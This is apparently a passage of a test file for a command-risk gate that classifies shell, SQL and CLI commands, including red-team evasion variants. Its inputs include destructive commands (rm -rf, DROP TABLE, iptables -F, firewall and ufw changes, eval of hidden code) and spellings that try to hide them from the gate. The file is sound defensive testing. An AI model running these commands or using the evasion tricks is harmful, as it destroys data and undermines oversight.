    `python3 -c "import urllib.request; print(urllib.request.urlopen('https://x.example.com/api', timeout=5).status)"`,
    `python3 -c "import boto3; print(boto3.client('ec2').describe_instances())"`,
    `python3 -c "import redis; print(redis.Redis().dbsize())"`,
    `python3 -c "print(eval('2+3'))"`,
    `python3 -c "exec('import os; print(os.listdir(1))')"`,
    `python3 -c "import subprocess as sp; print(sp.check_output(['df', '-h']).decode())"`,
    `python3 -c "import os as o; print(o.path.getsize('/var/log/app.log'))"`,
    `python3 -c "import requests; s = requests.Session(); print(s.get('https://x.example.com/health').status_code)"`,
    `python3 -c "import os; fd = os.open('/etc/hosts', os.O_RDONLY); print(os.read(fd, 10))"`,
    `node -e "const { readFileSync: r } = require('fs'); console.log(r('a.json', 'utf8').length)"`,
    `echo "import sys; print(sys.version)" | python3`,
    `sh <<< "ls -la /srv"`,
    `uv run python -c "import json; print(json.dumps({'ok': True}))"`,
    `ruby -e 'puts %x(df -h)'`,
    `perl -e 'system "df", "-h"'`,
    `python3 -c "import stripe; print(stripe.Charge.list(limit=3))"`,
    `python3 -c "import docker; print(docker.from_env().containers.list())"`,
    `psql -c "SELECT count(*) FROM purge_log"`,
    `psql -c "SELECT drop_reason, deleted_at FROM returns"`,
    `psql -c "COPY (SELECT 1) TO STDOUT"`,
    `psql -c "SELECT pg_size_pretty(pg_database_size('app'))"`,
    "psql -c '\\dt'",
    `sqlite3 app.db ".tables"`,
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });
});

describe("SQL files, scripts by path, package installs and methods in variables (passed the gate at bf5aa12)", () => {
  it.each([
    // SQL the plan does not show, handed to a client from a file: read by the file's name; a name that says nothing is a write.
    ["psql -f purge_customers.sql", "write", true, "`psql -f purge_customers.sql`"],
    ["psql -d prod -f migrations/002_add_index.sql", "write", false, "`psql -f migrations/002_add_index.sql`"],
    ["psql --file=q1.sql", "write", false, "`psql -f q1.sql`"],
    ["mysql prod < drop_all.sql", "write", true, "`mysql < drop_all.sql`"],
    ["mysql -e 'SOURCE purge.sql' prod", "write", true, "`mysql SOURCE purge.sql`"],
    ["psql -c '\\i wipe_tables.sql'", "write", true, "`psql \\i wipe_tables.sql`"],
    ["sqlite3 app.db < wipe.sql", "write", true, "`sqlite3 < wipe.sql`"],
    ["psql -fpurge.sql", "write", true, "`psql -f purge.sql`"],
    ["cat purge.sql | psql prod", "write", true, "`cat purge.sql | psql`"],
    ["cat purge.sql | psql -q -e prod", "write", true, "`cat purge.sql | psql`"],
    [`echo "DROP TABLE orders" | mysql prod`, "write", true, "`| mysql DROP TABLE`"],
    ["pg_dump -d staging | psql -d prod", "write", false, "`| psql`"],
    [`sqlite3 app.db ".read seed.sql"`, "write", false, "`sqlite3 .read seed.sql`"],
    // Scripts run by path or through an interpreter, read by their names like `bash purge_users.sh`.
    ["python3 delete_old_backups.py", "write", true, "`delete_old_backups.py`"],
    ["./cleanup.sh", "write", true, "`cleanup.sh`"],
    ["/opt/tools/wipe_disk --all", "write", true, "`wipe_disk`"],
    ["node scripts/remove-stale-users.js", "write", true, "`remove-stale-users.js`"],
    ["./scripts/migrate.sh", "write", false, "`migrate.sh`"],
    // Package installs change the machine and run the packages' install scripts.
    ["pip install requests", "write", false, "`pip install`"],
    ["python3 -m pip install requests", "write", false, "`pip install`"],
    ["pip3 install -r requirements.txt", "write", false, "`pip3 install`"],
    ["pip uninstall -y requests", "write", true, "`pip uninstall`"],
    ["npm install lodash", "write", false, "`npm install`"],
    ["npm ci", "write", false, "`npm ci`"],
    ["yarn add react", "write", false, "`yarn add`"],
    ["apt-get install -y curl", "write", false, "`apt-get install`"],
    ["sudo apt-get purge -y nginx", "write", true, "`apt-get purge`"],
    ["brew install jq", "write", false, "`brew install`"],
    ["cargo install ripgrep", "write", false, "`cargo install`"],
    ["uv pip install requests", "write", false, "`pip install`"],
    ["poetry add requests", "write", false, "`poetry add`"],
    ["pipenv install flask", "write", false, "`pipenv install`"],
    ["sqlcmd -S db -i purge.sql", "write", true, "`sqlcmd -i purge.sql`"],
    ["clickhouse-client --queries-file drop_partitions.sql", "write", true, "`clickhouse-client --queries-file drop_partitions.sql`"],
    ["Rscript delete_rows.R", "write", true, "`delete_rows.R`"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    // The method is in a variable: its value where the code assigns one, else a request that may change something.
    [`node -e "const m = 'DELETE'; fetch('https://api.example.com/users/7', { method: m })"`, "external", true],
    [`node -e "fetch('https://api.example.com/users/7', { method: process.argv[1] })"`, "external", false],
    [`node -e "fetch('https://api.example.com/users/7', { method: 'del'.toUpperCase() + 'ETE' })"`, "external", false],
    [`python3 -c "import requests; verb = 'DELETE'; requests.request(verb, 'https://api.example.com/users/7')"`, "external", true],
  ] as const)("%s", (command, risk, destructive) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
  });

  it.each([
    "psql -f report.sql",
    "psql -f queries/monthly_stats.sql",
    "mysql prod < select_active_users.sql",
    "cat queries/report.sql | psql prod",
    `echo "SELECT count(*) FROM orders" | psql prod`,
    "psql -c 'SELECT 1' | grep 1",
    "python3 analyze.py data.csv",
    "python3 remove_background.py photo.png --out cut.png",
    "./report.sh",
    "pip list",
    "pip show requests",
    "pip freeze",
    "pip install --dry-run requests",
    "npm ls",
    "npm view lodash version",
    "apt-cache search curl",
    "brew info jq",
    "python3 -m json.tool data.json",
    `node -e "const m = 'GET'; fetch('https://api.example.com/users', { method: m }).then(r => r.json()).then(console.log)"`,
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it.each([
    ["CALL get_order_stats()", "read"],
    ["EXEC sp_helpdb", "read"],
    ["CALL list_open_orders(7)", "read"],
    ["CALL get_or_create_user(7)", "write"],
    ["CALL refresh_stats()", "write"],
  ])("a procedure read by its name: %s", (sql, risk) => {
    expect(runSql(sql).risk).toBe(risk);
  });

  it("a read-named procedure that removes, or is handed a destructive statement, is still destructive", () => {
    for (const sql of ["CALL get_and_purge_cache()", "CALL get_report('DROP TABLE users')"]) {
      const r = runSql(sql);
      expect([r.risk, r.destructive]).toEqual(["write", true]);
    }
  });

  it("a parameter's default is no method", () => {
    expect(runCommand(`python3 -c "def fetch(url, method=None): pass; fetch('https://x.example.com')"`).risk).toBe("read");
  });
});

describe("effects behind a name: package runners, task targets, modules, code from a file or a variable (passed the gate at 15a3a87)", () => {
  it.each([
    // File removers fetched by a package runner: rimraf is `rm -rf` by another name.
    ["npx rimraf dist", "write", true, "`rimraf`"],
    ["npx --yes rimraf dist", "write", true, "`rimraf`"],
    ["pnpm dlx rimraf .cache", "write", true, "`rimraf`"],
    ["yarn dlx rimraf build", "write", true, "`rimraf`"],
    ["bunx del-cli 'logs/**'", "write", true, "`del-cli`"],
    ["npx wrangler deploy", "external", false, "`wrangler deploy`"],
    // Task targets that delete: `clean` is `cleanup` by its usual name.
    ["make clean", "write", true, "`make clean`"],
    ["make distclean", "write", true, "`make distclean`"],
    ["npm run clean", "write", true, "`npm run clean`"],
    ["yarn clear-cache", "write", true, "`yarn clear-cache`"],
    ["task flush", "write", true, "`task flush`"],
    ["make prune", "write", true, "`make prune`"],
    ["python3 bin/prune_snapshots.py --older-than 30d", "write", true, "`prune_snapshots.py`"],
    // Modules run as programs.
    ["python3 -m http.server 8080 --directory /srv/records", "external", false, "`http.server` (serves files to the network)"],
    ["npx http-server ./exports -p 8080", "external", false, "`http-server` (serves files to the network)"],
    ["python -m django flush --noinput", "write", true, "`django flush`"],
    // A script handed to a shell on stdin is read by its name, as `bash cleanup.sh` is.
    ["cat cleanup.sh | bash", "write", true, "`cleanup.sh`"],
    ["bash < purge_tmp.sh", "write", true, "`purge_tmp.sh`"],
    ["cat /opt/press/fix_queue.sh | bash", "write", false, "`fix_queue.sh`"],
    // Any other file a shell reads on stdin holds commands the plan does not show.
    ["cd /opt/press && sh < pending/banner-steps.txt", "write", true, "`sh < pending/banner-steps.txt` (code the plan does not show)"],
    ["cat cmds.txt | bash", "write", true, "`cat cmds.txt | bash` (code the plan does not show)"],
    // A function from a sourced file is read by its name, as a script is.
    ["source /opt/showtime/ops.sh && count_posters riverside && tidy_all riverside", "write", false, "`tidy_all`"],
    [". ./ops.sh; purge-cache --all", "write", true, "`purge-cache`"],
    // Code held in a variable or read from a file at run time: the plan does not show it.
    ['eval "$CLEANUP_CMD"', "write", true, "`eval $CLEANUP_CMD` (code the plan does not show)"],
    ["eval $CMD", "write", true, "`eval $CMD` (code the plan does not show)"],
    ['bash -c "$CMD"', "write", true, "`bash -c $CMD` (code the plan does not show)"],
    ['bash -c "$(cat cmd.txt)"', "write", true, "`bash -c $(cat cmd.txt)` (code the plan does not show)"],
    ['eval "$(< steps.txt)"', "write", true, "`eval $(< steps.txt)` (code the plan does not show)"],
    // …unless the plan shows the value: it is read as the command it is.
    ['CMD="rm -rf /srv/cache"; eval "$CMD"', "write", true, "`rm -rf`"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "npx eslint .",
    "npx tsc --noEmit",
    "npx prettier --check .",
    "pnpm dlx cowsay hi",
    "make test",
    "make lint",
    "npm run check",
    "python3 -m json.tool data.json",
    "python3 -m pytest -q --co",
    "python -m pip list",
    "python3 scripts/count_orders.py",
    "python3 clean_transcripts.py --dry-run",
    "cat report.txt | wc -l",
    "cat check_disk.sh | bash",
    'eval "$(ssh-agent -s)"',
    'eval "$(pyenv init -)"',
    'CMD="df -h"; eval "$CMD"',
    "source venv/bin/activate && python -m pytest -q",
    "source /opt/showtime/ops.sh && count_posters riverside",
    "count_posters riverside && tidy-report",
    "wc -l < pending/banner-steps.txt",
    "find . -name '*.log' | xargs -I{} sh -c 'wc -l {}'",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });
});

describe("wrappers, maintenance commands, local writes and service CLIs (passed the gate at 15a3a87)", () => {
  it.each([
    // Wrappers that run the command after their own options: looked through as sudo is.
    ["systemd-run --unit tidy -p Nice=10 rm -rf /srv/cache", "write", true, "`rm -rf`"],
    ["runuser -u app -- rm -rf /srv/cache", "write", true, "`rm -rf`"],
    ["chroot /mnt rm -rf /srv/cache", "write", true, "`rm -rf`"],
    ["nsenter -t 1 -m -u rm -rf /srv/cache", "write", true, "`rm -rf`"],
    ["flock /tmp/tidy.lock rm -rf /srv/cache", "write", true, "`rm -rf`"],
    ["flock -n /tmp/tidy.lock -c 'rm -rf /srv/cache'", "write", true, "`rm -rf`"],
    ['su -c "rm -rf /srv/cache" app', "write", true, "`rm -rf`"],
    ['script -q -c "rm -rf /srv/cache" /dev/null', "write", true, "`rm -rf`"],
    ["screen -dmS tidy rm -rf /srv/cache", "write", true, "`rm -rf`"],
    ['tmux new-session -d -s tidy "rm -rf /srv/cache"', "write", true, "`rm -rf`"],
    ['echo "rm -rf /srv/cache" | at now + 1 minute', "write", true, "`rm -rf`"],
    ['at now <<< "rm -rf /srv/cache"', "write", true, "`rm -rf`"],
    ['ansible web -m shell -a "rm -rf /srv/cache"', "write", true, "`rm -rf`"],
    // Maintenance commands that delete what they keep.
    ["journalctl --vacuum-time=1d", "write", true, "`journalctl --vacuum`"],
    ["tmpwatch 24 /tmp", "write", true, "`tmpwatch`"],
    ["npm cache clean --force", "write", true, "`npm cache clean`"],
    ["pip cache purge", "write", true, "`pip cache purge`"],
    ["go clean -modcache", "write", true, "`go clean`"],
    ["cargo clean", "write", true, "`cargo clean`"],
    ["mvn clean", "write", true, "`mvn clean`"],
    ["gradle clean", "write", true, "`gradle clean`"],
    ["brew cleanup", "write", true, "`brew cleanup`"],
    ["composer clear-cache", "write", true, "`composer clear-cache`"],
    // Local writes: files in place, extracted, downloaded to a path, the machine's configuration.
    ["awk -i inplace '{ gsub(/a/, \"b\") } 1' app.conf", "write", false, "`awk -i inplace`"],
    ["tar -xzf release.tgz -C /srv", "write", false, "`tar -x`"],
    ["unzip -o bundle.zip -d /srv", "write", false, "`unzip`"],
    ["gzip app.log", "write", false, "`gzip`"],
    ["curl -fsSL -o /usr/local/bin/tool https://x.example.com/tool", "write", false, "`curl -o`"],
    ["wget -O /etc/app.conf https://x.example.com/app.conf", "write", false, "`wget -O`"],
    ["iptables -F", "write", true, "`iptables -F`"],
    ["ufw disable", "write", false, "`ufw disable`"],
    ["sysctl -w net.ipv4.ip_forward=1", "write", false, "`sysctl -w`"],
    ["ip link set eth0 down", "write", false, "`ip link set`"],
    ["mount /dev/sdb1 /mnt", "write", false, "`mount`"],
    ["logrotate -f /etc/logrotate.conf", "write", false, "`logrotate`"],
    ["scp backup.tgz ops@backup01:/tmp/", "external", false, "`scp`"],
    // Migration and ORM tools by their task.
    ["dotnet ef database drop -f", "write", true, "`dotnet ef database drop`"],
    ["php artisan migrate:fresh", "write", true, "`artisan migrate:fresh`"],
    ["npx knex migrate:rollback --all", "write", true, "`knex migrate:rollback`"],
    ["npx sequelize db:drop", "write", true, "`sequelize db:drop`"],
    ["npx typeorm schema:drop", "write", true, "`typeorm schema:drop`"],
    ["npx drizzle-kit push", "write", false, "`drizzle-kit push`"],
    ["supabase db reset", "write", true, "`supabase db reset`"],
    // Service CLIs and HTTP clients.
    ["stripe customers delete cus_123", "external", true, "`stripe customers delete`"],
    ["stripe refunds create --charge ch_1", "external", false, "`stripe refunds create`"],
    ["glab repo delete team/site --yes", "external", true, "`glab repo delete`"],
    ["http DELETE https://api.example.com/users/1", "external", true, "`http DELETE`"],
    ["xh post https://api.example.com/reset", "external", false, "`xh POST`"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "systemd-run --user --scope df -h",
    "flock /tmp/l -c 'du -sh /srv'",
    'su -c "whoami" app',
    "tmux new-session -d -s watch 'tail -f /var/log/app.log'",
    "journalctl -u nginx --since today",
    "npm cache ls",
    "pip cache list",
    "cargo build --release --locked --offline --frozen -q --message-format short --target-dir /tmp/t --dry-run",
    "tar -tzf release.tgz",
    "tar -czf - src | wc -c",
    "unzip -l bundle.zip",
    "gzip -c app.log | wc -c",
    "gzip -t app.log.gz",
    "curl -fsS https://x.example.com/health",
    "curl -fsS -o /dev/null -w '%{http_code}' https://x.example.com/health",
    "wget -qO- https://x.example.com/health",
    "iptables -L -n",
    "ufw status verbose",
    "sysctl net.ipv4.ip_forward",
    "ip link show",
    "ip addr",
    "mount",
    "php artisan route:list",
    "npx knex migrate:status",
    "npx sequelize db:migrate:status",
    "supabase status",
    "stripe customers list --limit 3",
    "http GET https://api.example.com/users/1",
    "http https://api.example.com/users/1",
    "xh https://api.example.com/health",
    "ansible web -m ping",
    'ansible web -m shell -a "df -h"',
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });
});

describe("red team of 12a9fca: keywords, option values, spellings and look-ups", () => {
  it.each([
    // Shell keywords in front of a command hide nothing.
    ["if true; then rm -rf /srv/x; fi", "write", true],
    ["for f in *.log; do rm \"$f\"; done", "write", true],
    ["while true; do kubectl delete pod x; done", "external", true],
    ["! rm -rf /srv/x", "write", true],
    ["while read l; do eval \"$l\"; done < cmds.txt", "write", true],
    // Package runners: versions, `npm exec`, `npm x`.
    ["npx rimraf@5 dist", "write", true],
    ["npx @scope/cleaner@latest --all && npx rimraf@latest dist", "write", true],
    ["npm exec --yes -- rimraf node_modules", "write", true],
    ["npm x rimraf dist", "write", true],
    ["npx wrangler@3 deploy", "external", false],
    ["npx -p wrangler wrangler deploy", "external", false],
    // Task runners' options that take a value.
    ["make -C build clean", "write", true],
    ["make -f Makefile.ci clean", "write", true],
    ["npm --prefix web run clean", "write", true],
    ["pnpm -C app run clean", "write", true],
    ["make tidy", "write", false],
    // Wrappers' options that take a value, and their spellings.
    ["sudo -iu app rm -rf /srv/x", "write", true],
    ["timeout -s KILL 10 rm -rf /srv/x", "write", true],
    ["timeout -k 5 10 rm -rf /srv/x", "write", true],
    ["ionice -c 3 rm -rf /srv/x", "write", true],
    ["env -C /srv rm -rf x", "write", true],
    ["xargs -a list.txt rm -f", "write", true],
    ["xargs -d '\\n' rm", "write", true],
    ['su --login app --command="rm -rf /srv/x"', "write", true],
    ['script -qc "rm -rf /srv/x" /dev/null', "write", true],
    ['sg docker -c "docker rm -f web"', "write", true],
    ["gosu app rm -rf /srv/x", "write", true],
    ["unshare -r rm -rf /srv/x", "write", true],
    ["ip netns exec ns1 rm -rf /srv/x", "write", true],
    ["find /srv -name '*.tmp' -execdir rm {} +", "write", true],
    ["find /srv -name '*.log' -exec truncate -s0 {} \\;", "write", true],
    ["find /srv -name '*.log' -exec mv {} /archive \\;", "write", false],
    // Programs fed on stdin, variables in every spelling.
    ["sh -s < steps.txt", "write", true],
    ["bash -x < steps.txt", "write", true],
    ["cat steps.txt | bash -x", "write", true],
    ["cat steps.txt | sudo -u app bash", "write", true],
    ["bash steps.txt", "write", true],
    ["eval ${CMD}", "write", true],
    ["eval $(cat cmd.txt)", "write", true],
    ['eval "$(sed -n 3p cmd.txt)"', "write", true],
    ['xargs -I% sh -c "%" < cmds.txt', "write", true],
    ["echo rm -rf /srv/x | bash", "write", true],
    ['echo "rm -rf /srv/x" | sudo at now', "write", true],
    // Downloads, data, archives, in their usual spellings.
    ["curl -sSLo /usr/local/bin/kubectl https://x.example.com/k", "write", false],
    ["curl -OJ https://x.example.com/a.tgz", "write", false],
    ["curl -d@body.json https://x.example.com/api", "external", false],
    ["wget https://x.example.com/a.tgz", "write", false],
    ["wget -P /opt https://x.example.com/a.tgz", "write", false],
    ["gtar -xzf a.tgz", "write", false],
    ["sed --in-place s/a/b/ app.conf", "write", false],
    ["iptables -FX", "write", true],
    ["iptables-restore < rules.v4", "write", true],
    ["sysctl -ep", "write", false],
    ["mount -a", "write", false],
    ["python3 -u -m http.server 8000", "external", false],
    ["python -B -m django flush --noinput", "write", true],
    // Service CLIs: gh's shape for glab, stripe's own commands, scp's forms.
    ["glab mr approve 12", "external", false],
    ["glab -R team/site repo delete --yes", "external", true],
    ["stripe --api-key sk_test_x customers delete cus_1", "external", true],
    ["stripe trigger payment_intent.succeeded", "external", false],
    ["scp backup.tgz ops@backup01:/tmp/ -v", "external", false],
    ["npx sequelize-cli db:migrate:undo:all", "write", true],
    ["npx knex --knexfile k.js migrate:rollback", "write", true],
    ["dotnet ef database update 0", "write", true],
    // Caches and build outputs by other tools' names, servers that expose a port.
    ["apt-get clean", "write", true],
    ["dnf clean all", "write", true],
    ["uv cache clean", "write", true],
    ["poetry cache clear --all pypi", "write", true],
    ["gem cleanup", "write", true],
    ["npm prune", "write", true],
    ["ccache -C", "write", true],
    ["rake clobber", "write", true],
    ["gulp clean", "write", true],
    ["flutter clean", "write", true],
    ["bazel clean --expunge", "write", true],
    ["make mrproper", "write", true],
    ["mix ecto.drop", "write", true],
    ["go clean -modcache -i -r", "write", true],
    // (The dry run reads; the second run's `--delete` removes what src/ lacks from dst/: destructive since redteam-dec7b.)
    ["rsync -avn src/ dst/ && rsync -av --delete src/ dst/", "write", true],
    ["go get -insecure example.com/x", "write", false],
    ["tar -xzf OLD -C /srv", "write", false],
    ["tar -czf backup.tgz /srv/data", "write", false],
    ["tar --create --file=backup.tar /srv/data", "write", false],
    ['ansible all --module-name=shell --args="rm -rf /srv/x"', "write", true],
    ["ansible all -m community.general.ufw -a state=disabled", "write", false],
    ["at -f cleanup.sh now", "write", true],
    ["at -f steps.txt now", "write", true],
    ["go mod tidy", "write", false],
    // A variable as the program: its value when the line sets it, else code the plan does not show when it names a command.
    ['CMD="rm -rf /srv/x"; $CMD', "write", true],
    ["RM=rm; $RM -rf /srv/x", "write", true],
    ["P=kubectl; $P delete ns prod", "external", true],
    ["$CLEANUP_CMD --all", "write", true],
    // Functions of a sourced file by one word or in camelCase.
    ["source ops.sh && cleanup", "write", true],
    ["source ops.sh && purgeCache riverside", "write", true],
    [". ./deploy-lib.sh && deploy staging", "external", false],
    ["npx serve ./exports", "external", false],
    ["php -S 0.0.0.0:8000 -t /srv/records", "external", false],
    ["ngrok http 8080", "external", false],
  ] as const)("%s", (command, risk, destructive) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
  });

  it.each([
    "tar -xf a.tar -O | grep x",
    "tar --to-stdout -xzf a.tgz f",
    "unzip -c a.zip f | head",
    "logrotate -vd /etc/logrotate.conf",
    "make -n clean",
    "make clean -n",
    "make --just-print clean",
    "go clean -n",
    "cargo clean -n",
    "brew cleanup -n",
    "git clean -ndf",
    "make clean-check",
    "npm run clean:check",
    "npm run prune:dry",
    "npm run flush:status",
    "mount -t nfs",
    "nft -c -f /etc/nftables.conf",
    "http -F https://x.example.com",
    "http --json https://x.example.com/api",
    "http --offline POST https://x.example.com x=1",
    "http -a u:p https://x.example.com/me",
    "python3 -m http.server --bind 127.0.0.1 8000",
    "python3 -m http.server --help",
    "aws logs filter-log-events --log-group-name app",
    "sudo -iu app whoami",
    "timeout -s KILL 10 df -h",
    "find /srv -name '*.log' -execdir wc -l {} +",
    "echo hello | bash -n",
    "wget --spider https://x.example.com",
    "wget -qO- https://x.example.com",
    "curl -sSLo /dev/null https://x.example.com",
    "iptables -L -n -v",
    "sysctl -a",
    "bash -n steps.sh",
    "apt-get install --dry-run -y curl",
    "ccache -s",
    "gulp lint",
    "mix test",
    "php -S 127.0.0.1:8000",
    "php -r 'echo 1;'",
    "ngrok version",
    "go mod graph",
    "at -l",
    "ansible all -m community.general.ping",
    "$PYTHON -m pytest -q",
    'P=ls; $P -la /srv',
    "source ops.sh && clear && count_posters x",
    "source venv/bin/activate && pytest -q && listFiles",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });
});

describe("here-documents, remote and archive tools, network settings, sync tools and migrators (passed the gate at 8b831c1)", () => {
  it.each([
    // A here-document or here-string is what the client reads: SQL for a SQL client, code for an interpreter.
    ["psql \"$DB\" <<'SQL'\nDELETE FROM users;\nSQL", "write", true, "`psql DELETE FROM`"],
    ["sudo -u postgres psql app <<-EOF\n\tDROP TABLE sessions;\nEOF", "write", true, "`psql DROP TABLE`"],
    ["cat <<EOF | mysql app\nTRUNCATE orders;\nEOF", "write", true, "`mysql TRUNCATE`"],
    ["mysql app <<< 'DROP TABLE users'", "write", true, "`mysql DROP TABLE`"],
    ["ssh db01 psql app <<'SQL'\nDROP TABLE users;\nSQL", "write", true, "`psql DROP TABLE`"],
    ["python3 - <<'PY'\nimport shutil\nshutil.rmtree('/srv/cache')\nPY", "write", true, "`python3 shutil.rmtree`"],
    // Commands typed into a session, or run by a multiplexer with options before its subcommand.
    ['screen -S work -X stuff "rm -rf /srv/cache\\n"', "write", true, "`rm -rf`"],
    ["tmux -S /tmp/ops.sock new-session -d 'rm -rf /srv/cache'", "write", true, "`rm -rf`"],
    ["tmux -L ops new -d 'rm -rf /srv/cache'", "write", true, "`rm -rf`"],
    ["awk 'BEGIN { system(\"rm -rf /srv/cache\") }'", "write", true, "`rm -rf`"],
    ["ssh ops@host < steps.txt", "write", true, "`ssh < steps.txt` (code the plan does not show)"],
    ["ssh ops@host 'bash -s' < cleanup.sh", "write", true, "`cleanup.sh`"],
    ["sftp -b batch.txt ops@host", "write", true, "`sftp -b batch.txt` (code the plan does not show)"],
    ['ansible web -m uri -a "url=https://api.example.com/x method=DELETE"', "external", true, "`ansible -m uri method=DELETE`"],
    ["ansible web -m script -a ./cleanup.sh", "write", true, "`cleanup.sh`"],
    // Archives.
    ["zip -r backup.zip /srv", "write", false, "`zip`"],
    ["zip -d app.zip secret.txt", "write", true, "`zip -d`"],
    ["7z x archive.7z -o/srv", "write", false, "`7z x`"],
    ["7z d archive.7z old/", "write", true, "`7z d`"],
    ["cpio -idmv < archive.cpio", "write", false, "`cpio -i`"],
    // The machine's network.
    ["firewall-cmd --permanent --remove-service=ssh", "write", false, "`firewall-cmd --remove-service`"],
    ["ifconfig eth0 down", "write", false, "`ifconfig`"],
    ["nmcli connection delete office", "write", true, "`nmcli connection delete`"],
    ["nmcli dev disconnect eth0", "write", false, "`nmcli dev disconnect`"],
    ["route del default", "write", false, "`route del`"],
    ["tc qdisc add dev eth0 root netem delay 100ms", "write", false, "`tc qdisc add`"],
    // Sync and object-store tools.
    ["rclone sync /srv remote:backup", "external", true, "`rclone sync`"],
    ["rclone purge remote:bucket", "external", true, "`rclone purge`"],
    ["rclone copy /srv remote:backup", "external", false, "`rclone copy`"],
    ["s3cmd del s3://bucket/key", "external", true, "`s3cmd del`"],
    ["s3cmd put f.txt s3://bucket/", "external", false, "`s3cmd put`"],
    // Migration tools.
    ['goose -dir migrations postgres "$DB" down', "write", true, "`goose down`"],
    ['goose -dir migrations postgres "$DB" up', "write", false, "`goose up`"],
    ['dbmate -u "$DB" drop', "write", true, "`dbmate drop`"],
    ["dbmate rollback", "write", true, "`dbmate rollback`"],
    ["diesel migration revert", "write", true, "`diesel migration revert`"],
    ["diesel database reset", "write", true, "`diesel database reset`"],
    // Red team of 52b44d7: client commands before the SQL, a continued line, `2>&1`, `-f -`, a quoted reader, `python3 - arg`, other clients.
    ["psql app <<'SQL'\n\\set ON_ERROR_STOP on\nDELETE FROM sessions WHERE expires_at < now();\nSQL", "write", true, "`psql DELETE FROM`"],
    ["mysql <<EOF\nuse app\nDROP TABLE t;\nEOF", "write", true, "`mysql DROP TABLE`"],
    ["sqlite3 app.db <<EOF\n.headers on\nDELETE FROM t;\nEOF", "write", true, "`sqlite3 DELETE FROM`"],
    ["cat <<'EOF' | sqlite3 -header -column /srv/app.db\nDELETE FROM staging WHERE imported = 1;\nEOF", "write", true, "`sqlite3 DELETE FROM`"],
    ["psql app \\\n  -v ON_ERROR_STOP=1 <<'SQL'\nDROP TABLE t;\nSQL", "write", true, "`psql DROP TABLE`"],
    ["psql app > /dev/null 2>&1 <<EOF\nDROP TABLE t;\nEOF", "write", true, "`psql DROP TABLE`"],
    ["psql -X -d app -f - <<'SQL'\nDROP TABLE users;\nSQL", "write", true, "`psql DROP TABLE`"],
    ["ssh db 'psql app' <<SQL\nDROP TABLE t;\nSQL", "write", true, "`psql DROP TABLE`"],
    ["python3 - /srv/cache <<'PY'\nimport shutil, sys; shutil.rmtree(sys.argv[1])\nPY", "write", true, "`python3 shutil.rmtree`"],
    ["redis-cli -h cache <<< 'FLUSHALL'", "write", true, "`redis-cli FLUSHALL`"],
    ["mongosh \"$MONGO_URL\" <<'JS'\ndb.users.deleteMany({})\nJS", "write", true, "`mongosh deleteMany`"],
    ["dbmate --env-file .env.production rollback", "write", true, "`dbmate rollback`"],
    ["rclone --exclude '*.tmp' sync ./dist remote:bucket", "external", true, "`rclone sync`"],
    ["s3cmd --region us-east-1 rm s3://b/x", "external", true, "`s3cmd rm`"],
    ["7z a -sdel archive.7z /var/log/old", "write", true, "`7z a -sdel`"],
    ["tmux new -ds x 'rm -rf /data'", "write", true, "`rm -rf`"],
    // A body kept in a file (run later, perhaps), or never closed, stays read as commands.
    ["cat <<EOF > run.sh\nrm -rf /srv/x\nEOF", "write", true, "`> run.sh`"],
    ["cat <<EOF\nrm -rf /srv/x", "write", true, "`rm -rf`"],
    // A workspace's task.
    ["yarn workspace web clean", "write", true, "`yarn workspace web clean`"],
    ["yarn workspace @acme/web run clean", "write", true, "`yarn workspace @acme/web run clean`"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "psql \"$DB\" <<'SQL'\nSELECT count(*) FROM users;\nSQL",
    "mysql app <<< 'SELECT 1'",
    "python3 - <<'PY'\nprint(sum(range(10)))\nPY",
    "python3 report.py <<'EOF'\nshutil.rmtree is in the notes\nEOF",
    "cat <<'EOF'\nDROP TABLE is what the old script did.\nEOF",
    "psql -f report.sql <<'EOF'\nDROP TABLE x;\nEOF",
    "screen -ls",
    "screen -S work -X hardcopy /dev/stdout",
    "tmux ls",
    "tmux -L ops list-sessions",
    "awk '{ print $1 }' access.log",
    "awk 'BEGIN { system(\"date\") }'",
    "ssh ops@host uptime",
    'ansible web -m uri -a "url=https://api.example.com/health"',
    "zip -sf app.zip",
    "7z l archive.7z",
    "7z t archive.7z",
    "cpio -it < archive.cpio",
    "firewall-cmd --list-all",
    "firewall-cmd --state",
    "ifconfig",
    "ifconfig eth0",
    "ifconfig -a",
    "nmcli connection show",
    "nmcli dev status",
    "nmcli",
    "route -n",
    "tc qdisc show dev eth0",
    "tc -s qdisc ls",
    "rclone ls remote:bucket",
    "rclone check /srv remote:backup",
    "s3cmd ls s3://bucket",
    'goose -dir migrations postgres "$DB" status',
    "dbmate status",
    "diesel migration list",
    "yarn workspace web test",
    "yarn workspace web run lint",
    "cat <<'EOF'\nTo clean up later run:\nrm -rf build\nEOF",
    "grep -q 'rm -rf' <<'EOF'\nrm -rf /data\nEOF",
    "wc -l <<EOF\npsql -c 'DROP TABLE t'\nEOF",
    "psql -h db -d app <<'SQL'\nSELECT a FROM r WHERE t >= date '2026-05-04' AND s <> 'deleted';\nSQL",
    "rclone sync a b:c -n",
    "s3cmd -n del s3://b/x",
    "ssh host < /dev/null",
    "7z x -so a.7z | tar -t",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });
});

